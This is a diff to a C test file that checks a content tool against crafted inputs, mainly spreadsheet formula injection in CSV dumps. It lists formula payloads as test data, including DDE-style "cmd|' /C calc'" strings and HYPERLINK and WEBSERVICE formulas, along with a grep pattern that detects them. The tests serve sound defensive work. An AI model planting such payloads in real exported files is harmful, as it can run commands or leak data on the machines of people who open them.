@@ -1,12 +1,14 @@
-/* The staff tool against what someone may plant for it (issue 12, item
- * 8): a content file crafted so that `dump` writes outside its folder, and
- * links and pipes planted in that folder. Content files are crafted as an
+/* The staff tool against what someone may plant for it (issue 12, items 8
+ * and 13): a content file crafted so that `dump` writes outside its
+ * folder, links and pipes planted in that folder, and texts that a
+ * spreadsheet would run as formulas. Content files are crafted as an
  * attacker would, with the sqlite3 shell and CHECK constraints off. */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
 #include "helpers.h"
+#include "rules.h"
 
 /* The mini sources built into dir/mini.db; returns its path. */
 static char *mini_db(const char *dir)
@@ -122,4 +124,104 @@ LEAKFREE_TEST(crafted, dump_writes_through_no_link_or_pipe_planted_in_out_dir, .
 		free(after), free(before), free(plant), free(elsewhere), free(victim), free(out), free(db);
 		scratch_remove(dir);
 	}
+}
+
+/* ---- item 13: spreadsheet formulas ---------------------------------------- */
+
+/* What starts like a formula and what is text (the choice is explained at
+ * rule_spreadsheet_formula() in kiosk/rules.c). */
+LEAKFREE_TEST(crafted, which_texts_start_like_a_spreadsheet_formula)
+{
+	static const char *formulas[] = {
+		"=HYPERLINK(\"https://example.org/?\"&A1,\"Klick\")", "=1+1", "@SUM(A1:A9)", "\t=1+1", "\tText",
+		"\rText", "\nText", "  =1+1", "+HYPERLINK(\"https://example.org\")", "-HYPERLINK(\"https://example.org\")",
+		"+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "- 1+'\\\\server\\share\\[x.xlsx]S'!A1",
+		"- WEBSERVICE(\"https://example.org\")", "-A1", "+A1", "--1", "-=1", "+@x", "- Beratung (kostenlos)",
+	};
+	static const char *texts[] = {
+		"Diabetes", "- Beratung", "- Erste Zeile\n- zweite Zeile", "+49 30 23125 100", "-20 % für Mitglieder",
+		"-", "+", "", "Treffen (jeden Dienstag)!", "1+1", "E-Mail: a@example.org", "x=1", " Text",
+	};
+	for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
+		const char *why = rule_spreadsheet_formula(formulas[i]);
+		cr_assert(why && strstr(why, "starts like a spreadsheet formula"), "taken for text: \"%s\"", formulas[i]);
+	}
+	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
+		cr_assert_null(rule_spreadsheet_formula(texts[i]), "taken for a formula: \"%s\"", texts[i]);
+}
+
+/* build refuses a formula with FILE:LINE:COLUMN and a sentence staff
+ * understand, and takes a list dash, a phone number in a phone field and
+ * a phone number in a text. */
+LEAKFREE_TEST(crafted, build_refuses_a_formula_and_takes_dashes_and_numbers)
+{
+	char *dir = scratch_dir(), *src = path_join(dir, "src"), *out = path_join(dir, "out.db");
+	cr_assert_eq(shell("mkdir '%s'", src), 0);
+	copy_sources(MINI_SOURCES, src);
+	char *texts = path_join(src, "topic_texts.csv"), *cps = path_join(src, "contact_points.csv");
+	replace_in_file(texts, "diabetes,en,Diabetes,", "diabetes,en,\"=HYPERLINK(\"\"https://example.org\"\")\",");
+	struct tool_result r = tool_run("build", src, out, NULL);
+	cr_assert_eq(r.status, 1, "build took it:\n%s", r.err);
+	cr_assert(strstr(r.err, "topic_texts.csv:3:3: error: name: \"=HYPERLINK(\"https://example.org\")\" starts like a"
+				" spreadsheet formula (with = or @), which Excel or LibreOffice would run when they open"
+				" the CSV file; begin it with a word"), "%s", r.err);
+	cr_assert_not(file_exists(out));
+	tool_result_free(&r);
+
+	replace_in_file(texts, "\"=HYPERLINK(\"\"https://example.org\"\")\"", "\"- Diabetes\"");
+	replace_in_file(texts, "Too much sugar in the blood. The group talks about everyday life with it.",
+			"\"- Too much sugar\n- +49 30 23125 100\n-\"");
+	replace_in_file(cps, "030 23125 100", "+49 30 23125 100");
+	r = tool_run("build", src, out, NULL);
+	cr_assert_eq(r.status, 0, "refused:\n%s", r.err);
+	tool_result_free(&r);
+	r = tool_run("check", out, NULL);
+	cr_assert_eq(r.status, 0, "%s", r.err);
+	tool_result_free(&r);
+	free(texts), free(cps), free(src), free(out);
+	scratch_remove(dir);
+}
+
+/* A formula that a content file still holds (it fails check) is dumped
+ * with a ' in front, with a warning naming file, line and column; the
+ * sqlite3 shell, reading the dump as CSV, finds no cell that starts like a
+ * formula. */
+LEAKFREE_TEST(crafted, dump_neutralises_a_formula_it_still_meets)
+{
+	char *dir = scratch_dir(), *db = mini_db(dir), *out = path_join(dir, "out");
+	tamper(db, "UPDATE topic_text SET name = '=HYPERLINK(\"https://example.org/?\"&A1,\"Klick\")'"
+		   " WHERE lang = 'en' AND topic_id = (SELECT id FROM topic WHERE slug = 'diabetes');"
+		   " UPDATE page_text SET body = '-2+3+cmd|'' /C calc''!A0' WHERE lang = 'de';"
+		   " UPDATE page_text SET body = 'Erste Zeile' || char(10) || '=1+1' WHERE lang = 'en';"
+		   " UPDATE meta SET title = '@SUM(1)';"
+		   " UPDATE contact_point SET phone = '-HYPERLINK(\"https://example.org\")' WHERE id = 1");
+	struct tool_result r = tool_run("dump", db, out, NULL);
+	cr_assert_eq(r.status, 0, "%s", r.err);
+	cr_assert(strstr(r.out, "written (4 warnings)"), "%s", r.out);
+	static const char *warnings[] = {
+		"meta.csv:2:2: warning: title: \"@SUM(1)\" starts like a spreadsheet formula",
+		"topic_texts.csv:3:3: warning: name: \"=HYPERLINK(",
+		"contact_points.csv:2:6: warning: phone: \"-HYPERLINK(",
+		"page_texts.csv:2:4: warning: body: \"-2+3+cmd|' /C calc'!A0\" starts like a spreadsheet formula",
+	};
+	for (size_t i = 0; i < sizeof warnings / sizeof *warnings; i++)
+		cr_assert(strstr(r.err, warnings[i]), "expected \"%s\" in\n%s", warnings[i], r.err);
+	cr_assert(strstr(r.err, "written with a ' in front, so that a spreadsheet shows it as text"), "%s", r.err);
+	/* The en text's second line is no cell of its own: a cell's start
+	 * counts, and that is "Erste Zeile". */
+	cr_assert_null(strstr(r.err, "Erste Zeile"), "%s", r.err);
+	static const char *files[] = {"meta.csv", "topic_texts.csv", "contact_points.csv", "page_texts.csv"};
+	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
+		char *csv = path_join(out, files[i]);
+		cr_assert_eq(shell("sqlite3 -json :memory: '.import --csv %s t' 'SELECT * FROM t'"
+				   " | grep -E '\":\" *([=@]|[-+][^0-9 \"]|[-+][^\"]*[(|!])'", csv), 1,
+			     "%s holds a cell that starts like a formula", files[i]);
+		free(csv);
+	}
+	cr_assert_eq(shell("grep -q \"^title,'@SUM(1)$\" %s/meta.csv", out), 0);
+	cr_assert_eq(shell("grep -qF \"diabetes,en,\\\"'=HYPERLINK(\" %s/topic_texts.csv", out), 0);
+	cr_assert_eq(shell("grep -qF \"'-HYPERLINK(\" %s/contact_points.csv", out), 0);
+	tool_result_free(&r);
+	free(out), free(db);
+	scratch_remove(dir);
 }
